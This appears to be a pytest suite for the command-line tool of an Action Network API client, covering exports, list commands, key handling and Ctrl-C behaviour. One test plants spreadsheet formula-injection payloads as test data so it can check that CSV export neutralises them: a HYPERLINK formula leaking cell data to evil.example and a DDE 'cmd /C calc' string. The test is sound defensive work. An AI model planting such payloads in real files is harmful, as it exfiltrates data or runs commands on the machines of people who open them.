"""The command line end to end on the emulator: exports, get, unique ID lists, failures, Ctrl-C.

Most runs call ``main()`` in-process; the signal tests run the installed ``actionnetwork``
script (and ``python -m actionnetwork_async``) as subprocesses against the emulator on loopback.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import pty
import re
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from actionnetwork_async import API_KEY_ENV, BASE_URL_ENV
from actionnetwork_async.cli import main
from actionnetwork_async.cli.export import RATE_MIN_SPAN, RateWindow
from actionnetwork_async.testing import Emulator, Quirks, Seed, serve_in_thread

KEY = "cli-test-key-5f0c2a9e8d7b6a41"
FAST = ["--rate-limit", "1000"]


@pytest.fixture
def emu(monkeypatch: pytest.MonkeyPatch) -> Iterator[Emulator]:
    server = Emulator(
        seed=Seed(people=130, events=30, unique_id_lists=2), rate_limit=None, api_key=KEY
    )
    with serve_in_thread(server) as running:
        monkeypatch.setenv(API_KEY_ENV, KEY)
        monkeypatch.setenv(BASE_URL_ENV, running.base_url)
        yield running


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    status = main([*args])
    out, err = capsys.readouterr()
    assert KEY not in out + err
    assert "Traceback" not in err
    return status, out, err


def one_line(err: str) -> str:
    lines = err.splitlines()
    assert len(lines) == 1, err
    return lines[0]


# -- export -----------------------------------------------------------------------------------
def test_export_jsonl_streams_every_record_with_every_field(
    emu: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(capsys, "export", "people", *FAST)
    assert status == 0
    assert err == ""  # stderr is not a terminal: no progress display
    records = [json.loads(line) for line in out.splitlines()]
    assert len(records) == 130
    assert [r["identifiers"][0].split(":")[1] for r in records] == emu.ids("people")
    first = emu.state["people"].values()[0]
    assert {k: v for k, v in first.items() if not k.startswith("_")} == records[0]


def test_export_csv_flattens_people_into_columns(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    late = emu.state["people"].values()[120]  # past the records that set the columns
    late["custom_fields"]["shirt_size"] = "L"
    target = tmp_path / "people.csv"
    status, out, err = run(capsys, "export", "people", "--format", "csv", "-o", str(target), *FAST)
    assert status == 0
    assert out == ""
    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
    assert len(rows) == 130
    person = emu.state["people"].values()[7]
    row = rows[7]
    assert row["id"] == emu.ids("people")[7]
    assert row["email"] == person["email_addresses"][0]["address"]
    assert row["phone"] == person["phone_numbers"][0]["number"]
    assert row["postal_code"] == person["postal_addresses"][0]["postal_code"]
    assert row["custom_fields.volunteer"] == person["custom_fields"]["volunteer"]
    assert json.loads(rows[120]["custom_fields_other"]) == {"shirt_size": "L"}
    assert "shirt_size" in one_line(err)  # a note: nothing was dropped, and how to get a column
    assert [p.name for p in tmp_path.iterdir()] == ["people.csv"]  # no temporary file left

    status, out, err = run(
        capsys, "export", "people", "--format", "csv", "--custom-fields", "shirt_size", *FAST
    )
    assert status == 0
    assert "seq, volunteer" in one_line(err)  # not asked for: still kept, as JSON
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert rows[120]["custom_fields.shirt_size"] == "L"
    assert json.loads(rows[120]["custom_fields_other"]) == {"volunteer": "yes", "seq": "120"}


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised_and_phone_numbers_kept(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    hostile, plain = emu.state["people"].values()[3], emu.state["people"].values()[4]
    hostile.update(given_name=HYPERLINK, family_name="@SUM(1+1)*cmd|' /C calc'!A0")
    hostile["custom_fields"]["volunteer"] = DDE
    hostile["phone_numbers"][0]["number"] = "+12025550100"
    plain.update(given_name="-2+3", family_name="\rCarriage")
    plain["custom_fields"]["volunteer"] = "-12.5"
    plain["phone_numbers"][0]["number"] = "+1 (202) 555-0101"
    target = tmp_path / "people.csv"
    status, _, _ = run(capsys, "export", "people", "--format", "csv", "-o", str(target), *FAST)
    assert status == 0
    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
    assert rows[3]["given_name"] == "'" + HYPERLINK
    assert rows[3]["family_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[3]["custom_fields.volunteer"] == "'" + DDE
    assert rows[3]["phone"] == "+12025550100"  # a phone number stays usable
    assert rows[4]["given_name"] == "'-2+3"
    assert rows[4]["family_name"] == "'\rCarriage"
    assert rows[4]["custom_fields.volunteer"] == "-12.5"  # a number stays a number
    assert rows[4]["phone"] == "+1 (202) 555-0101"
    starts = ("=", "+", "-", "@", "\t", "\r")
    risky = [cell for row in rows for cell in row.values() if cell.startswith(starts)]
    assert sorted(risky) == sorted(["+12025550100", "-12.5", "+1 (202) 555-0101"])

    status, out, _ = run(capsys, "export", "people", "--format", "csv", "--no-formula-guard", *FAST)
    assert status == 0
    verbatim = list(csv.DictReader(io.StringIO(out, newline="")))
    assert verbatim[3]["given_name"] == HYPERLINK
    assert verbatim[3]["custom_fields.volunteer"] == DDE
    status, out, _ = run(capsys, "export", "people", *FAST)  # JSONL is data, never guarded
    assert json.loads(out.splitlines()[3])["given_name"] == HYPERLINK
    status, _, err = run(capsys, "export", "people", "--no-formula-guard", *FAST)
    assert status == 2
    assert "--no-formula-guard applies to --format csv" in err

    with serve_in_thread(Emulator(rate_limit=None, api_key=KEY)) as empty:  # the import undoes it
        status, _, err = run(
            capsys, "import", "people", "--from", str(target), "--base-url", empty.base_url, *FAST
        )
        assert status == 0, err
        (imported,) = [p for p in empty.state["people"].values() if p["given_name"] == HYPERLINK]
        assert imported["custom_fields"]["volunteer"] == DDE
        assert imported["phone_numbers"][0]["number"] == "+12025550100"


def test_export_events_and_lists_as_csv(emu: Emulator, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(capsys, "export", "events", "--format", "csv", *FAST)
    assert status == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == 30
    assert rows[0]["title"] == emu.state["events"].values()[0]["title"]
    status, out, _ = run(capsys, "export", "unique-id-lists", "--format", "csv", *FAST)
    assert [r["name"] for r in csv.DictReader(io.StringIO(out, newline=""))] == [
        x["name"] for x in emu.state["unique_id_lists"].values()
    ]


def test_export_people_with_tags_end_to_end(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    server = Emulator(seed=Seed(people=60, tags=4, taggings=90), rate_limit=None, api_key=KEY)
    with serve_in_thread(server) as emu:
        monkeypatch.setenv(API_KEY_ENV, KEY)
        monkeypatch.setenv(BASE_URL_ENV, emu.base_url)
        names = {key: tag["name"] for key, tag in emu.state["tags"].items.items()}
        expected: dict[str, list[str]] = {}
        for tagging in emu.state["taggings"].values():
            expected.setdefault(tagging["_person_id"], []).append(names[tagging["_tag_id"]])
        status, out, _ = run(capsys, "export", "people", "--with-tags", *FAST)
        assert status == 0
        records = [json.loads(line) for line in out.splitlines()]
        assert len(records) == 60
        for record in records:
            person_id = record["identifiers"][0].removeprefix("action_network:")
            assert record["tags"] == sorted(expected.get(person_id, []))
        per_tag = [len(emu.state.owned("taggings", "tags", tag)) for tag in emu.ids("tags")]
        tag_requests = 1 + sum(max(1, math.ceil(n / 25)) for n in per_tag)
        # the entry point, the tags, their taggings, the people: no request per person
        assert len(emu.log) == 1 + tag_requests + emu.count(path="people")
        target = tmp_path / "people.csv"
        status, _, _ = run(
            capsys, "export", "people", "--with-tags", "--format", "csv", "-o", str(target), *FAST
        )
        rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
        assert status == 0
        assert [r["tags"].split("\n") if r["tags"] else [] for r in rows] == [
            r["tags"] for r in records
        ]
        status, _, err = run(capsys, "export", "events", "--with-tags", *FAST)
        assert status == 2
        assert "--with-tags applies to people" in err
        tag = emu.ids("tags")[0]
        status, out, _ = run(capsys, "get", "tags", tag, *FAST)  # every resource has a get
        assert (status, json.loads(out)["name"]) == (0, names[tag])


def test_export_with_a_filter_and_modified_since(
    emu: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    email = emu.state["people"].values()[42]["email_addresses"][0]["address"]
    status, out, _ = run(
        capsys, "export", "people", "--filter", f"email_address eq '{email}'", *FAST
    )
    assert status == 0
    assert [json.loads(line)["email_addresses"][0]["address"] for line in out.splitlines()] == [
        email
    ]
    assert "filter=email_address" in emu.log[-1].query

    status, out, _ = run(capsys, "export", "people", "--modified-since", "2014-09-01", *FAST)
    expected = [p for p in emu.state["people"].values() if p["modified_date"] > "2014-09-01"]
    assert status == 0
    assert 0 < len(out.splitlines()) == len(expected) < 130


def test_a_bad_filter_is_one_line_and_a_failure(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "people.jsonl"
    status, _out, err = run(
        capsys, "export", "people", "--filter", "email_address eq", "-o", str(target)
    )
    assert status == 2  # refused before any request: the filter cannot be read
    assert "cannot read the filter" in one_line(err)
    assert not list(tmp_path.iterdir())  # no output file, complete or partial


def test_only_a_collection_the_api_filters_takes_a_filter(
    emu: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    for option in (["--modified-since", "2026-01-01"], ["--filter", "name eq 'x'"]):
        status, _, err = run(capsys, "export", "unique-id-lists", *option)
        assert status == 2
        assert "--filter and --modified-since apply to people and events" in err
    assert emu.log == []  # a usage mistake: nothing was asked of the API


def test_an_export_with_a_wrong_key_says_the_key_is_wrong(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The API answers a wrong key at the entry point with 200 and no links: the export reads
    the collection through its facade, which says so, not "no rel 'osdi:people'"."""
    server = Emulator(
        seed=Seed(people=3), quirks=Quirks(lenient_entry_point=True), rate_limit=None, api_key=KEY
    )
    with serve_in_thread(server) as emu:
        monkeypatch.setenv(API_KEY_ENV, "wrong-key-0123456789abcdef0123")
        monkeypatch.setenv(BASE_URL_ENV, emu.base_url)
        status, out, err = run(capsys, "export", "people", *FAST)
    assert status == 1
    assert "key is probably wrong" in one_line(err)
    assert out == ""


def test_a_missing_key_is_one_line_and_a_failure(
    emu: Emulator,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.delenv(API_KEY_ENV)
    status, out, err = run(capsys, "export", "people")
    assert status == 2
    assert API_KEY_ENV in one_line(err)
    assert "--api-key-file" in err
    assert out == ""
    assert len(emu.log) == 0

    key_file = tmp_path / "key"
    key_file.write_text(KEY + "\n")
    status, out, _ = run(capsys, "export", "events", "--api-key-file", str(key_file), *FAST)
    assert status == 0
    assert len(out.splitlines()) == 30


def test_a_key_file_that_is_not_text_is_one_line(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    key_file = tmp_path / "key"
    key_file.write_bytes(b"\xff\xfe" + KEY.encode("utf-16-le"))  # saved as UTF-16 by an editor
    status, _, err = run(capsys, "export", "events", "--api-key-file", str(key_file))
    assert status == 2  # was a UnicodeDecodeError traceback
    assert "not UTF-8 text" in one_line(err)
    assert emu.log == []


def test_the_key_is_never_printed(
    emu: Emulator,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    # run() checks every output for KEY; here a wrong key, and retries logged with -v
    wrong = tmp_path / "wrong"
    wrong.write_text("wrong-key-0123456789abcdef0123")
    status, _, err = run(capsys, "get", "people", "x", "--api-key-file", str(wrong))
    assert status == 1
    assert "HTTP 403" in one_line(err)
    assert "wrong-key-0123456789abcdef0123" not in err
    emu.add_fault("status", path="events", status=503)
    status, _out, err = run(capsys, "export", "events", "-v", *FAST)
    assert status == 0
    assert "HTTP 503" in caplog.text  # the retry was logged (pytest holds the log lines)
    assert KEY not in caplog.text


def test_get_prints_one_record_and_a_404_is_one_line(
    emu: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    event_id = emu.ids("events")[3]
    status, out, _ = run(capsys, "get", "events", event_id, *FAST)
    assert status == 0
    assert json.loads(out)["identifiers"][0] == f"action_network:{event_id}"
    status, out, err = run(capsys, "get", "people", "no-such-person", *FAST)
    assert status == 1
    assert "HTTP 404" in one_line(err)


def test_unique_id_lists_create_append_replace_from_files(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    ids = tmp_path / "ids.txt"
    ids.write_text("\n".join(emu.ids("people")[:50]) + "\n\n")
    status, out, _ = run(capsys, "unique-id-lists", "create", "Volunteers", "--from", str(ids))
    assert status == 0
    created = json.loads(out)
    assert created["count"] == 50
    list_id = created["identifiers"][0].split(":")[1]
    status, out, _ = run(capsys, "unique-id-lists", "append", list_id, "--from", str(ids), *FAST)
    assert json.loads(out)["count"] == 100
    status, out, _ = run(capsys, "unique-id-lists", "replace", list_id, "--from", str(ids), *FAST)
    assert json.loads(out)["count"] == 50
    ids.write_text("not-a-person-id\n")
    status, _, err = run(capsys, "unique-id-lists", "append", list_id, "--from", str(ids), *FAST)
    assert status == 2
    assert "not a person unique id" in one_line(err)


def test_an_ids_file_that_is_not_utf8_is_one_line_saying_so(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    ids = tmp_path / "ids.txt"
    ids.write_bytes(emu.ids("people")[0].encode() + b"\nJos\xe9\n")
    status, out, err = run(capsys, "unique-id-lists", "create", "Latin", "--from", str(ids))
    assert status == 2  # was a UnicodeDecodeError traceback
    assert "ids.txt: not UTF-8 text" in one_line(err)
    assert out == ""


# -- Ctrl-C -----------------------------------------------------------------------------------
@pytest.fixture
def big(monkeypatch: pytest.MonkeyPatch) -> Iterator[Emulator]:
    with serve_in_thread(Emulator(seed=Seed(people=2000), rate_limit=None, api_key=KEY)) as running:
        yield running


def environment(emu: Emulator) -> dict[str, str]:
    return {**os.environ, API_KEY_ENV: KEY, BASE_URL_ENV: emu.base_url}


def test_ctrl_c_on_stdout_ends_with_the_last_complete_record(big: Emulator) -> None:
    process = subprocess.Popen(
        [sys.executable, "-m", "actionnetwork_async", "export", "people", "--rate-limit", "20"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment(big),
    )
    assert process.stdout is not None
    head = [process.stdout.readline() for _ in range(30)]  # the export is under way
    process.send_signal(signal.SIGINT)
    rest = process.stdout.read()  # through the same buffer readline() read ahead into
    assert process.stderr is not None
    err = process.stderr.read()
    lines = [*head, *rest.splitlines(keepends=True)]
    assert process.wait(timeout=30) == 130
    assert 30 <= len(lines) < 2000
    assert all(line.endswith(b"\n") for line in lines)
    assert [json.loads(line)["identifiers"][0].split(":")[1] for line in lines] == big.ids(
        "people"
    )[: len(lines)]
    message = err.decode()
    assert message.startswith("actionnetwork: error: interrupted: ")
    assert len(message.splitlines()) == 1
    assert KEY not in message


def test_ctrl_c_on_a_file_export_leaves_the_old_file_and_no_partial_one(
    big: Emulator, tmp_path: Path
) -> None:
    target = tmp_path / "people.jsonl"
    yesterday = '{"given_name": "yesterday\'s export"}\n'  # an export: it may be replaced
    target.write_text(yesterday)
    script = Path(sys.executable).with_name("actionnetwork")
    controller, terminal = pty.openpty()  # stderr on a terminal: the progress display shows
    process = subprocess.Popen(
        [str(script), "export", "people", "-o", str(target), "--rate-limit", "20"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=terminal,
        env=environment(big),
    )
    os.close(terminal)
    seen = b""
    while b"requests/s" not in seen:  # the progress display: the export is under way
        seen += os.read(controller, 4096)
    process.send_signal(signal.SIGINT)
    assert process.wait(timeout=30) == 130
    while True:
        try:
            chunk = os.read(controller, 4096)
        except OSError:  # the terminal closed with the process
            break
        if not chunk:
            break
        seen += chunk
    os.close(controller)
    text = seen.decode(errors="replace")
    assert "records" in text
    assert "pages" in text
    assert "retries" in text
    assert f"interrupted: {target} was not written" in text
    assert KEY not in text
    assert target.read_text() == yesterday
    assert [p.name for p in tmp_path.iterdir()] == ["people.jsonl"]


# -- progress rates ---------------------------------------------------------------------------
def test_progress_rates_are_measured_over_a_window_never_from_a_burst(tmp_path: Path) -> None:
    """Right after the tags step the display showed ``1222.03 requests/s``: the tag requests
    over the first moments of the people step. Every rate shown stays near the limit."""
    limit = 20
    server = Emulator(seed=Seed(people=2000, tags=3, taggings=450), rate_limit=None, api_key=KEY)
    with serve_in_thread(server) as emu:
        controller, terminal = pty.openpty()  # stderr on a terminal: the progress display shows
        process = subprocess.Popen(
            [sys.executable, "-m", "actionnetwork_async", "export", "people", "--with-tags",
             "-o", str(tmp_path / "people.jsonl"), "--rate-limit", str(limit)],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=terminal,
            env=environment(emu),
        )  # fmt: skip
        os.close(terminal)
        seen = b""
        while True:
            try:
                chunk = os.read(controller, 4096)
            except OSError:  # the terminal closed with the process
                break
            if not chunk:
                break
            seen += chunk
        os.close(controller)
        assert process.wait(timeout=60) == 0
    text = seen.decode(errors="replace")
    requests = [float(x) for x in re.findall(r"([0-9.]+) requests/s", text)]
    records = [float(x) for x in re.findall(r"([0-9.]+) (?:records|taggings)/s", text)]
    assert requests, text  # shown once a second of the step had passed
    assert records, text
    assert max(requests) <= limit * 1.5, text
    assert max(records) <= 25 * limit * 1.5, text  # 25 records per page


def test_a_rate_window_ignores_what_came_before_it_and_follows_the_rate() -> None:
    window = RateWindow(window=10.0, min_span=RATE_MIN_SPAN)
    window.add(500, 0.0)  # the step starts after 500 requests of the step before
    window.add(501, 0.05)  # its first request: too short a span to tell a rate from
    assert window.rate() is None
    total, now = 501, 0.05
    for _ in range(120):  # 30 s at 4 per second
        now, total = now + 0.25, total + 1
        window.add(total, now)
        rate = window.rate()
        assert rate is None or rate <= 4 + 1 / RATE_MIN_SPAN
    assert window.rate() == pytest.approx(4.0, abs=0.05)
    for _ in range(40):  # then 20 s at 2 per second
        now, total = now + 0.5, total + 1
        window.add(total, now)
    assert window.rate() == pytest.approx(2.0, abs=0.05)  # the last 10 s only
